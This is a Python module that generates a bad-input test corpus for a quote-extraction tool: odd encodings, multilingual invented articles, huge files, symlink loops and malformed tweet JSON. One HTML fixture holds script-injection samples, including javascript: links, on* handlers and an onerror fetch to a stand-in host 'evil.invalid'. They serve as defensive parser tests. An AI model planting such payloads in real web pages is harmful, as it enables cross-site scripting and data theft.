"""Write a corpus of bad inputs for pressroom, and say what each one should give.

``make_corpus(folder)`` writes the files into a new or empty folder and
returns ``{name: Expectation}``, names relative to ``folder``. Run as a
script to look at the corpus by hand:

    python tests/badinput/make_corpus.py FOLDER

Every text here is invented for these tests: the people, the films and the
quotes. Nothing is copied from anywhere.
"""
from __future__ import annotations

import json
import os
import random
import sys
import zlib
from dataclasses import dataclass
from pathlib import Path

HUGE_BYTES = 100_000_000  # the 100 MB article
LINE_BYTES = 5_000_000  # the single 5 MB line
UNBALANCED_MARKS = 10_000
NESTING = 5_000
CHUNK = 1 << 20  # big files are written a chunk at a time, never built whole


@dataclass(frozen=True)
class Expectation:
    """What pressroom should make of one corpus entry.

    ``outcome`` is what a folder run gives:
      - "document": read and extracted; each of ``quotes`` is ``(words,
        speaker)``: some quote holds the words and is attributed to the
        speaker (not checked when None); ``absent`` are strings no quote,
        name, title or document text may hold;
      - "failure": one error naming the file, its message matching ``problem``
        (a regular expression);
      - "vanishes": a document the test removes between listing and reading,
        which then fails as ``problem`` says;
      - "unlisted": not a document file, so a folder run passes over it; given
        as a path of its own it fails as ``problem`` says (when set);
      - "skip": what it should give cannot hold here; ``reason`` says why.
    ``tweets`` and ``bad_lines`` are what ``pressroom tweets`` reads from a
    tweet file: how many tweets, and the line numbers reported as bad.
    """

    outcome: str
    problem: str = ""
    quotes: tuple[tuple[str, str | None], ...] = ()
    absent: tuple[str, ...] = ()
    tweets: int = 0
    bad_lines: tuple[int, ...] = ()
    reason: str = ""


def document(*quotes: tuple[str, str | None], absent=(), reason="") -> Expectation:
    return Expectation("document", quotes=quotes, absent=tuple(absent), reason=reason)


def failure(problem: str, reason: str = "") -> Expectation:
    return Expectation("failure", problem=problem, reason=reason)


# --- invented coverage -------------------------------------------------------

ENGLISH = (
    "Quenby's quiet triumph at the Lantern Awards\n\n"
    "Marisol Quenby won best actress in a drama on Sunday night for \"The Lantern Orchard\", "
    "a film nobody expected to finish.\n\n"
    "\u201cI wrote half of this speech on a napkin in the car,\u201d Quenby said backstage, "
    "still holding the trophy.\n\n"
    "Her co-star Tobiah Renwick was louder about it. \u201cShe carried all of us through "
    "a flooded set and three rewrites,\u201d Renwick said.\n"
)

CP1252 = (
    b"Dunmore takes the score prize\r\n\r\n"
    b"Ana\xefs Dunmore won best original score for \x93Saltwater Hymns\x94 on Sunday.\r\n\r\n"
    b"\x93Every cue in that film started as a hum in my kitchen,\x94 Ana\xefs Dunmore said "
    b"backstage, laughing. \x93My neighbours deserve a credit.\x94\r\n"
)

TRUNCATED = (
    "Ren\u00e9e Castellane and the caf\u00e9 speech\n\n"
    "\u201cI owe this to the night shift at the caf\u00e9 on Alder Street,\u201d "
    "Ren\u00e9e Castellane said on stage.\n\n"
    "She left before the last award \u2026"
).encode("utf-8")[:-1]  # the ellipsis cut after two of its three bytes

UTF16 = (
    "Varga-Holm wins for Glass Pavilion\n\n"
    "\"We shot the ending four times and kept the first one,\" Ilse Varga-Holm said "
    "in the press room.\n"
)

GERMAN = (
    "Henrike Bausch gewinnt f\u00fcr \u201eDer Glaspavillon\u201c\n\n"
    "\u201eWir haben diesen Film mit Freunden und sehr wenig Geld gedreht\u201c, sagte "
    "Henrike Bausch nach der Verleihung. Die Jury lobte die Kamera von J\u00f6rg "
    "Wei\u00dfenfels.\n\n"
    "\u201eIch hatte keine Rede vorbereitet\u201c, gab sie zu.\n"
)
FRENCH = (
    "L\u00e9onie Fabre-Arnaud r\u00e9compens\u00e9e pour \u00ab Les Heures de Craie \u00bb\n\n"
    "\u00ab Je d\u00e9die ce prix \u00e0 ma grand-m\u00e8re, qui ne regardait jamais la "
    "t\u00e9l\u00e9vision \u00bb, a d\u00e9clar\u00e9 L\u00e9onie Fabre-Arnaud en coulisses.\n\n"
    "Son partenaire, Ga\u00ebtan Roux-Meunier, a ajout\u00e9 : \u00ab Elle a tout "
    "port\u00e9 sur ses \u00e9paules \u00bb.\n"
)
CHINESE = (
    "\u67ef\u96e8\u6850\u51ed\u300a\u7eb8\u706f\u7b3c\u300b\u83b7\u5956\n\n"
    "\u201c\u6211\u8981\u611f\u8c22\u5728\u96e8\u4e2d\u7b49\u4e86\u4e09\u4e2a\u5c0f\u65f6"
    "\u7684\u5267\u7ec4\u3002\u201d\u67ef\u96e8\u6850\u5728\u540e\u53f0\u8bf4\u3002\n\n"
    "\u5979\u8fd8\u8bf4\uff1a\u201c\u4e0b\u4e00\u90e8\u7535\u5f71\u4f1a\u66f4\u5b89\u9759"
    "\u3002\u201d\n"
)
ARABIC = (
    "\u0646\u0627\u062f\u064a\u0646 \u0627\u0644\u0635\u0631\u0627\u0641 \u062a\u0641\u0648\u0632 "
    "\u0628\u062c\u0627\u0626\u0632\u0629 \u0623\u0641\u0636\u0644 \u0645\u0645\u062b\u0644\u0629\n\n"
    "\u00ab\u0647\u0630\u0647 \u0627\u0644\u062c\u0627\u0626\u0632\u0629 \u0644\u0643\u0644 "
    "\u0645\u0646 \u0633\u0647\u0631 \u0645\u0639\u0646\u0627 \u0641\u064a \u0627\u0644\u0635\u062d\u0631"
    "\u0627\u0621\u00bb\u060c \u0642\u0627\u0644\u062a \u0646\u0627\u062f\u064a\u0646 "
    "\u0627\u0644\u0635\u0631\u0627\u0641 \u0628\u0639\u062f \u0627\u0644\u062d\u0641\u0644.\n"
)
EMOJI_RTL = (
    "\U0001f3ac\U0001f3c6 Live: Adeyemi-Strand takes the directing prize \U0001f44f\U0001f3fd\n\n"
    "Yusuf Adeyemi-Strand won best director for \u201cThe Tin Lighthouse\u201d "
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 and brought his whole family on stage.\n\n"
    "\u201cMy daughters voted for the other film \U0001f602,\u201d Yusuf Adeyemi-Strand said "
    "backstage.\n\n"
    "The Hebrew subtitles read \u200f\u05ea\u05d5\u05d3\u05d4 \u05e8\u05d1\u05d4\u200f and "
    "the Arabic card read \u202b\u0634\u0643\u0631\u0627\u064b \u0644\u0643\u0645\u202c; "
    "a stray override \u202eesrever ni\u202c slipped into the caption.\n\n"
    "Co\u0301mbining marks and \U0001f1e8\U0001f1e6 flags made it too: \u201cWe are all "
    "crying in three languages \U0001f62d,\u201d said Odile Ferrante-Nakamura.\n"
)
VANISHING = "\u201cI will not be here long,\u201d Perpetua Holloway said.\n"
LOOPED = "\u201cWe went round in circles for a year,\u201d Casimir Ostrowe said backstage.\n"

PARAGRAPH = (
    "Oona Castellane opened the evening with a long monologue about parking. "
    "\"I have been to eleven of these and never once found the entrance,\" Castellane said, "
    "and the room laughed along with her. "
)

SCRIPT_MARK = "Payload Person"
SCRIPTED = f"""<!DOCTYPE html>
<html><head><title>Varga-Holm's night &amp; the after-party</title>
<style>body::before {{ content: '"Fake words from the stylesheet," said {SCRIPT_MARK}'; }}</style>
<script>document.write('"Tell them I won," said {SCRIPT_MARK}.');</script>
<script type="application/ld+json">{{"headline": "said {SCRIPT_MARK} in JSON"}}</script>
</head>
<body onload="alert('said {SCRIPT_MARK} on load')">
<noscript>Enable scripts to hear from {SCRIPT_MARK}.</noscript>
<nav><a href="javascript:alert('{SCRIPT_MARK}')">Home</a> <a href="JaVaScRiPt:void(0)">Menu</a></nav>
<article>
<h1>Varga-Holm's night and the after-party</h1>
<p onclick="steal('{SCRIPT_MARK}')">Ilse Varga-Holm won best screenplay for \u201cGlass Pavilion\u201d on Sunday,
ending a decade of near misses.</p>
<p>\u201cI rewrote the last scene on the train here, so blame the train,\u201d Ilse Varga-Holm said backstage.</p>
<p onmouseover="x()">Her producer, Benedek Sarlo, was calmer: \u201cShe always finishes on the train,\u201d Sarlo said.</p>
<img src="x" onerror="fetch('//evil.invalid/?{SCRIPT_MARK}')">
<svg><script>alert('{SCRIPT_MARK}')</script></svg>
<iframe srcdoc="<p>{SCRIPT_MARK} in a frame</p>"></iframe>
<template><p>"Hidden words," said {SCRIPT_MARK}.</p></template>
</article>
<script>var s = "</scr" + "ipt>"; console.log("{SCRIPT_MARK}");</script>
</body></html>
"""


def _nested_html() -> str:
    body = (
        "<p>Wendeline Ashgrove won best supporting actress for \u201cThe Copper Coast\u201d.</p>"
        "<p>\u201cI was told this part had four lines, and I kept all four,\u201d Wendeline Ashgrove said backstage.</p>"
        f"<script>alert('{SCRIPT_MARK}')</script>"
    )
    return (
        "<!DOCTYPE html><html><head><title>Ashgrove deep inside</title></head><body>"
        + "<div class=\"wrap\">" * NESTING + body + "</div>" * NESTING
        + "</body></html>"
    )


def _unclosed_html() -> str:
    """Thousands of tags never closed, and a script that never ends."""
    return (
        "<html><head><title>Ashgrove, unclosed</title><body>" + "<span><em><b>" * NESTING
        + "<p>\u201cI kept the dress from the first audition,\u201d Wendeline Ashgrove said backstage."
        + f"<script>var said = '{SCRIPT_MARK}';"
    )


def unbalanced_text() -> str:
    """10,000 runs of quotation marks that never pair (half of them on one line), and one quote that does."""
    rng = random.Random(337)
    shapes = ['"stray', 'word"', "\u201copen", "close\u201d", '" ', "\u201e", "'tis", "\u00ab", '""', "\u201c \u201d"]
    lines = [" ".join(rng.choice(shapes) for _ in range(UNBALANCED_MARKS // 2))]
    lines += [" ".join(rng.choice(shapes) for _ in range(50)) for _ in range(UNBALANCED_MARKS // 100)]
    return "\n".join(lines) + (
        "\n\n\u201cWe kept the lights on for each other,\u201d Tobiah Renwick said backstage.\n"
    )


def _png() -> bytes:
    rng = random.Random(1)
    header = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
    pixels = zlib.compress(bytes(rng.randrange(256) for _ in range(4096)))
    return header + len(pixels).to_bytes(4, "big") + b"IDAT" + pixels + b"\x00\x00\x00\x00IEND\xaeB`\x82"


def _elf() -> bytes:
    rng = random.Random(2)
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + bytes(rng.randrange(256) for _ in range(8192))


def _tweet(n: int, text: str) -> str:
    return json.dumps({"text": text, "user": {"screen_name": f"fan{n}"}, "id": 9000 + n,
                       "timestamp_ms": str(1_900_000_000_000 + n * 1000)}, ensure_ascii=False)


TWEET_LINES = [  # (line, good?)
    (_tweet(1, "Marisol Quenby wins best actress #LanternAwards"), True),
    ("{this is not json", False),
    (_tweet(3, "Tobiah Renwick presenting next \U0001f3ac"), True),
    ("[1, 2, 3]", False),
    ("", None),  # a blank line is neither
    ('{"user": {"screen_name": "no_text"}, "id": 9006}', False),
    ('{"text": "cut off in the midd', False),
    (_tweet(8, "\u05ea\u05d5\u05d3\u05d4 Quenby! \u0634\u0643\u0631\u0627\u064b"), True),
    ('"just a string"', False),
    (_tweet(10, "best director goes to Yusuf Adeyemi-Strand \U0001f44f\U0001f3fd"), True),
]


def _tweet_lines_bytes() -> bytes:
    lines = [line.encode("utf-8") for line, _ in TWEET_LINES]
    lines.append(b'{"text": "bad bytes \xff\xfe here"}')  # line 11: not UTF-8
    return b"\n".join(lines) + b"\n"


def _tweet_array() -> str:
    return "[\n" + ",\n".join([
        _tweet(1, "Quenby takes it \U0001f3c6"),
        "42",
        '{"id": 3}',
        _tweet(4, "Renwick on stage now"),
        '{"text": "broken", "user": }',
        _tweet(6, "what a night"),
    ]) + "\n]\n"


# --- writing -----------------------------------------------------------------


def _stream(path: Path, size: int, block: str) -> None:
    """Write ``size`` bytes of ``block`` repeated, a chunk at a time."""
    data = block.encode("utf-8")
    chunk = data * max(1, CHUNK // len(data))
    with path.open("wb") as out:
        left = size
        while left > 0:
            piece = chunk[:left]
            out.write(piece)
            left -= len(piece)


def make_corpus(
    folder: str | Path, *, huge_bytes: int = HUGE_BYTES, line_bytes: int = LINE_BYTES
) -> dict[str, Expectation]:
    """Write the bad-input corpus under ``folder``; return ``{name: Expectation}``.

    ``huge_bytes`` and ``line_bytes`` size the 100 MB article and the 5 MB line
    (smaller ones make a cheap corpus to read the names from).
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Expectation] = {}

    def write(name: str, data: bytes | str, expect: Expectation) -> Path:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        out[name] = expect
        return path

    write("empty.txt", b"", failure("empty document"))
    write("blank.txt", b"  \n\t\r\n   \n\x0c\n", failure("empty document"))
    write("picture.txt", _png(), failure("binary file"))
    write("program.txt", _elf(), failure("binary file"))
    write("notes [draft].txt", b"", failure("empty document", reason="brackets in the name stay in the message"))
    write("truncated-utf8.txt", TRUNCATED, document(
        ("night shift at the caf\u00e9", "Ren\u00e9e Castellane"), absent=["\u00c3", "\u00e2\u20ac"],
        reason="UTF-8 cut inside its last character: read as UTF-8, not as cp1252 mojibake"))
    write("utf16-le.txt", UTF16.encode("utf-16-le"), document(("ending four times", "Ilse Varga-Holm")))
    write("utf16-be.txt", UTF16.encode("utf-16-be"), document(("ending four times", "Ilse Varga-Holm")))
    write("cp1252.txt", CP1252, document(("hum in my kitchen", "Ana\u00efs Dunmore")))
    write("english.txt", ENGLISH, document(
        ("napkin in the car", "Marisol Quenby"), ("flooded set and three rewrites", "Tobiah Renwick")))
    write("german.txt", GERMAN, document(("mit Freunden und sehr wenig Geld", None)))
    write("french.txt", FRENCH, document(
        ("Je d\u00e9die ce prix \u00e0 ma grand-m\u00e8re", None), ("Elle a tout port\u00e9", None),
        reason="guillemets spaced the French way"))
    write("chinese.txt", CHINESE, document(("\u5267\u7ec4", None)))
    write("arabic.txt", ARABIC, document(("\u0627\u0644\u0635\u062d\u0631\u0627\u0621", None)))
    write("emoji-rtl.txt", EMOJI_RTL, document(
        ("daughters voted for the other film", "Yusuf Adeyemi-Strand"),
        ("crying in three languages", "Odile Ferrante-Nakamura")))
    write("unbalanced.txt", unbalanced_text(), document(
        ("kept the lights on", "Tobiah Renwick"), reason=f"{UNBALANCED_MARKS:,} runs of quotation marks that never pair"))
    write("scripted.html", SCRIPTED, document(
        ("rewrote the last scene on the train", "Ilse Varga-Holm"), absent=[SCRIPT_MARK],
        reason="scripts, styles, templates, on* handlers and javascript: URLs are not text"))
    write("nested.html", _nested_html(), document(
        ("kept all four", "Wendeline Ashgrove"), absent=[SCRIPT_MARK], reason=f"{NESTING:,} levels of <div>"))
    write("unclosed.html", _unclosed_html(), document(
        ("kept the dress from the first audition", "Wendeline Ashgrove"), absent=[SCRIPT_MARK],
        reason="tags left open, a script never closed"))
    write("vanishing.txt", VANISHING, Expectation(
        "vanishes", problem="no such file", reason="removed after the folder is listed, before it is read"))

    _stream(folder / "huge.txt", huge_bytes, PARAGRAPH + "\n\n")
    size = f"{huge_bytes / 1_000_000:.1f}".replace(".", r"\.")
    out["huge.txt"] = failure(rf"file is {size} MB, over the 20 MB limit \(--max-size\)")
    _stream(folder / "one-line.txt", line_bytes, PARAGRAPH)
    out["one-line.txt"] = document(
        ("never once found the entrance", "Oona Castellane"),
        reason="5,000,000 characters on one line, five times spaCy's max_length")

    write("tweets.jsonl", _tweet_lines_bytes(), Expectation(
        "unlisted", problem="pressroom tweets", tweets=sum(1 for _, good in TWEET_LINES if good),
        bad_lines=tuple(n for n, (_, good) in enumerate(TWEET_LINES, 1) if good is False) + (11,)))
    write("tweets.json", _tweet_array(), Expectation(
        "unlisted", problem="pressroom tweets", tweets=3, bad_lines=(3, 4, 6)))

    # a folder that links back into itself, and files that link to each other
    write("loops/inside.txt", LOOPED, document(("round in circles", "Casimir Ostrowe")))
    (folder / "loops" / "deeper").mkdir()
    os.symlink(".", folder / "loops" / "again")
    out["loops/again"] = Expectation("unlisted", reason="links to its own folder: read once")
    os.symlink("..", folder / "loops" / "deeper" / "up")
    out["loops/deeper/up"] = Expectation("unlisted", reason="links to a folder already read")
    os.symlink("cycle-b.txt", folder / "loops" / "cycle-a.txt")
    os.symlink("cycle-a.txt", folder / "loops" / "cycle-b.txt")
    os.symlink("self.txt", folder / "loops" / "self.txt")
    for name in ("loops/cycle-a.txt", "loops/cycle-b.txt", "loops/self.txt"):
        out[name] = failure("symbolic link loop")

    # unreadable, in ways that hold for root too
    os.symlink("nowhere/gone.txt", folder / "dangling.txt")
    out["dangling.txt"] = failure("broken symbolic link")
    os.mkfifo(folder / "pipe.txt")
    out["pipe.txt"] = failure("not a regular file")
    if Path("/proc/self/mem").exists():  # a file whose every read fails with EIO
        os.symlink("/proc/self/mem", folder / "read-error.txt")
        out["read-error.txt"] = failure("input/output error")
    locked = write("locked.txt", ENGLISH, failure("permission denied"))
    locked.chmod(0)
    if os.geteuid() == 0:
        out["locked.txt"] = Expectation("skip", reason="root reads a file of mode 000 anyway")
    return out


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py FOLDER")
    for name, expect in sorted(make_corpus(sys.argv[1]).items()):
        print(f"{name:24} {expect.outcome:9} {expect.problem or expect.reason}")
